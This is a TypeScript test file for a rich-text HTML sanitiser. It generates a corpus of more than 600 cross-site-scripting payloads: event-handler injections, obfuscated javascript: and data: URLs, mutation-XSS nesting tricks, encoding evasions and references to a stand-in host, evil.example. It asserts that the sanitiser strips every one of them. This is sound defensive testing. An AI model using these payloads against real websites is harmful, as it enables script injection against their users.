// @vitest-environment jsdom
import { imageSource, linkSchemes, richTextRules } from '@atrium/contracts/content/rich-text';
import { describe, expect, test } from 'vitest';
import { sanitiseHtml } from './sanitise-html';

interface ParsedElement {
  tagName: string;
  attributes: Iterable<{ name: string; value: string }>;
}
interface Container {
  innerHTML: string;
  querySelectorAll(selector: string): Iterable<ParsedElement>;
}
declare const document: { createElement(name: string): Container };

function isAllowedStyle(styles: Readonly<Record<string, RegExp>> = {}, style: string): boolean {
  return style
    .split(';')
    .filter((declaration) => declaration.trim() !== '')
    .every((declaration) => {
      const [name = '', value = ''] = declaration.split(/:(.*)/s).map((part) => part.trim());
      return styles[name]?.test(value) ?? false;
    });
}

/** Parses with a browser's parser, because the browser's reading of the result is what matters. */
function findProblems(html: string): string[] {
  const container = document.createElement('div');
  container.innerHTML = html;
  const problems: string[] = [];
  for (const { tagName, attributes } of container.querySelectorAll('*')) {
    const tag = tagName.toLowerCase();
    const rule = richTextRules[tag];
    if (rule === undefined) problems.push(`<${tag}>`);
    for (const { name, value } of attributes) {
      const isAllowed =
        rule?.attributes?.includes(name) ||
        (name === 'style' && isAllowedStyle(rule?.styles, value)) ||
        (name === 'class' && rule?.classes?.some((pattern) => pattern.test(value)));
      if (!isAllowed) problems.push(`<${tag} ${name}=${value}>`);
      if (name !== 'href' && name !== 'src') continue;
      const scheme = new URL(value, 'https://site.example/a/').protocol.slice(0, -1);
      const isKnown = name === 'src' ? imageSource.test(value) : linkSchemes.includes(scheme);
      if (!isKnown) problems.push(`<${tag} ${name}=${value}>`);
    }
  }
  return problems;
}

const call = 'alert(1)';
const split = (words: string) => words.split(' ');
const tags = [
  ...split('script img svg math iframe object embed video audio body form input button select textarea'),
  ...split('details marquee template noscript style link meta base title xmp a p td table pre code h1 li'),
  ...split('blockquote frameset isindex keygen x-custom'),
];
const events = split('onerror onload onclick onfocus ontoggle onmouseover onanimationstart ONPOINTERENTER');
const schemes = [
  'javascript:',
  'JaVaScRiPt:',
  ' javascript:',
  '\u0001javascript:',
  'java\tscript:',
  'java\nscript:',
  'java&#x0A;script:',
  '&#106;avascript:',
  '&#x6A;&#x61;vascript:',
  'javascript&colon;',
  'vbscript:',
  'data:text/html,',
  'data:text/html;base64,',
  'data:image/svg+xml,',
  'feed:javascript:',
  'view-source:javascript:',
  'blob:',
  'file:///',
  '//evil.example/',
  '\\\\evil.example\\',
];
const breakers = [
  '',
  '"',
  "'",
  '`',
  '>',
  '"><',
  "'><",
  '-->',
  ']]>',
  '</p>',
  '</style>',
  '</textarea>',
  '</title>',
  '\u0000',
  '/',
];

const corpus = [
  ...tags.flatMap((tag) =>
    events.map((event) => `<${tag} ${event}=${call} autofocus tabindex=1 src=x>${call}`),
  ),
  ...tags.map((tag) => `<${tag}/onload=${call}//`),
  ...tags.map((tag) => `<${tag}\u000Conerror="${call}"\u000Csrc=x>`),
  ...tags.map((tag) => `<<${tag}>${call}//<</${tag}>`),
  ...schemes.flatMap((scheme) => [
    `<a href="${scheme}${call}">x</a>`,
    `<a href='${scheme}${call}'>x</a>`,
    `<a href=${scheme}${call}>x</a>`,
    `<img src="${scheme}${call}">`,
    `<img srcset="${scheme}${call} 1x">`,
    `<form action="${scheme}${call}"><button formaction="${scheme}${call}">`,
    `<iframe src="${scheme}${call}"></iframe>`,
    `<svg><a xlink:href="${scheme}${call}"><text>x</text></a></svg>`,
    `<p style="background:url('${scheme}${call}')">x</p>`,
    `<table background="${scheme}${call}"><td background="${scheme}${call}">`,
  ]),
  ...breakers.flatMap((breaker) => [
    `<p title="${breaker}<img src=x onerror=${call}>">x</p>`,
    `${breaker}<script>${call}</script>`,
    `<img alt="${breaker}" title='${breaker}' src=x onerror=${call}>`,
    `<code class="language-js${breaker} onclick=${call}">x</code>`,
    `<style>${breaker}<img src=x onerror=${call}></style>`,
    `<!--${breaker}<img src=x onerror=${call}>-->`,
    `<noscript><p title="</noscript>${breaker}<img src=x onerror=${call}>">`,
    `<math><mtext><table><mglyph><style><!--${breaker}</style><img title="--&gt;&lt;img src=1 onerror=${call}&gt;">`,
    `<svg></p><style>${breaker}<a id="</style><img src=1 onerror=${call}>">`,
    `<form><math><mtext></form><form><mglyph><style></math>${breaker}<img src onerror=${call}>`,
  ]),
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<p style="width:expression(alert(1))">x</p>',
  '<p style="-moz-binding:url(//evil.example/x.xml#x)">x</p>',
  '<p style="behavior:url(x.htc)">x</p>',
  '<p style="text-align:center;position:fixed;inset:0;z-index:9">x</p>',
  '<col style="width:99999px"><table style="width:1px;background:url(x)">',
  '<a href="https://evil.example" target="_blank" rel="opener">x</a>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<svg><animate attributeName=href values=javascript:alert(1) /><a id=x>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x" />',
  '<select><style></select><img src=x onerror=alert(1)></style>',
  '<a href="x" ping="https://evil.example" download>x</a>',
  '<img src="/media/65a1b2c3d4e5f60718293a4b/a.png" usemap="#m" crossorigin referrerpolicy=unsafe-url>',
  `<script\n>${call}</script\n>`,
  `<script/x>${call}//`,
  `<script src="data:text/javascript,${call}"></script>`,
  `<script><!--\n${call}\n--></script>`,
  `<template><script>${call}</script></template><script>${call}</script>`,
  `<img src="x"onerror="${call}">`,
  `<img src=x onerror=\`${call}\`>`,
  `<img """><script>${call}</script>">`,
  `<img src=x alt="\`><script>${call}</script>">`,
  `<img alt="x\` \`y" title="\`\`onerror=${call}">`,
  `<image src=x onerror=${call}>`,
  `<picture><source srcset=x onerror=${call}><img src=x onerror=${call}></picture>`,
  `<video><source onerror=${call}></video>`,
  `<svg><foreignObject><iframe srcdoc="<script>${call}</script>"></iframe></foreignObject></svg>`,
  `<svg><set onbegin=${call} attributeName=x to=0>`,
  `<svg><title><img src=x onerror=${call}></title></svg>`,
  `<svg><handler type="text/javascript">${call}</handler></svg>`,
  `<math><maction actiontype="statusline#" xlink:href="javascript:${call}">a</maction></math>`,
  `<iframe srcdoc="&lt;img src=x onerror=${call}&gt;"></iframe>`,
  `<iframe name="${call}" src="javascript:eval(name)"></iframe>`,
  `<object><param name="src" value="javascript:${call}"></object>`,
  `<p contenteditable popover onbeforetoggle=${call}>x</p>`,
  `<style>@import "javascript:${call}";</style>`,
  `<p style="x:\\65xpression(${call})">x</p>`,
  `<p style="text-align:left&quot; onclick=${call} x=&quot;">x</p>`,
  `<a href="java&Tab;script:${call}">x</a>`,
  `<a href="javascript:/*--></title></style></textarea></script>*/${call}">x</a>`,
  `<map name=m><area href=javascript:${call}></map><img usemap=#m src=x>`,
  `<form id=f></form><button form=f formaction="javascript:${call}">x</button>`,
  `&lt;script&gt;${call}&lt;/script&gt;`,
  `&amp;lt;script&amp;gt;${call}&amp;lt;/script&amp;gt;`,
  `\uff1cscript\uff1e${call}\uff1c/script\uff1e`,
  `<\u200bscript>${call}</script>`,
  `<img src=x on\u200berror=${call} onerror=${call}>`,
  `<ſcript>${call}</ſcript>`,
  `<a href="javaſcript:${call}">x</a>`,
  `<!DOCTYPE x [<!entity a "${call}">]><script>&a;</script>`,
  `<svg><p><style><a title="</style><img src=x onerror=${call}>"></p></svg>`,
  `<listing>&lt;img src=x onerror=${call}&gt;</listing>`,
  `<plaintext><img src=x onerror=${call}>`,
  ...split('xmp noembed noframes textarea title iframe').map(
    (tag) => `<${tag}><img title="</${tag}><img src=x onerror=${call}>"></${tag}>`,
  ),
  `<select><template><img src=x onerror=${call}></template></select>`,
  `<table><td><svg><desc><td><img src=x onerror=${call}></table>`,
  `<p>a<p id="--><img src=x onerror=${call}>"><!--</p>`,
  `<a><b><a href="javascript:${call}"><i></b>x</a>`,
  `<p title="a&quot; onclick=${call} b=&quot;">x</p>`,
  `<pre><code class="language-x&quot; onclick=${call} &quot;">x</code></pre>`,
  '\u2028<script\u2029>alert(1)</script>',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>',
];

describe('a corpus of attacks', () => {
  test(`has ${corpus.length} different attacks`, () => {
    expect(new Set(corpus).size).toBe(corpus.length);
    expect(corpus.length).toBeGreaterThan(600);
  });

  test('leaves only allow-listed markup, also after a browser has parsed it', () => {
    for (const payload of corpus) {
      const clean = sanitiseHtml(payload);
      expect(findProblems(clean), `${payload}\n-> ${clean}`).toEqual([]);
      const container = document.createElement('div');
      container.innerHTML = clean;
      expect(findProblems(container.innerHTML), payload).toEqual([]);
      expect(findProblems(sanitiseHtml(container.innerHTML)), payload).toEqual([]);
    }
  });

  test('is harmless inside an attribute, a table or a code block', () => {
    for (const payload of corpus) {
      for (const html of [
        `<p>${payload}</p>`,
        `<table><tbody><tr><td>${payload}`,
        `<pre><code>${payload}</code></pre>`,
        `<img alt="${payload}" src="/media/65a1b2c3d4e5f60718293a4b/x.png">`,
      ])
        expect(findProblems(sanitiseHtml(html)), html).toEqual([]);
    }
  });

  test('the check itself detects violations', () => {
    for (const bad of [
      '<img src=x onerror=1>',
      '<script>1</script>',
      '<a href="javascript:1">x</a>',
      '<p style="position:fixed">x</p>',
      '<img src="//evil.example/x">',
      '<img src="https://evil.example/x">',
    ])
      expect(findProblems(bad), bad).not.toEqual([]);
  });
});
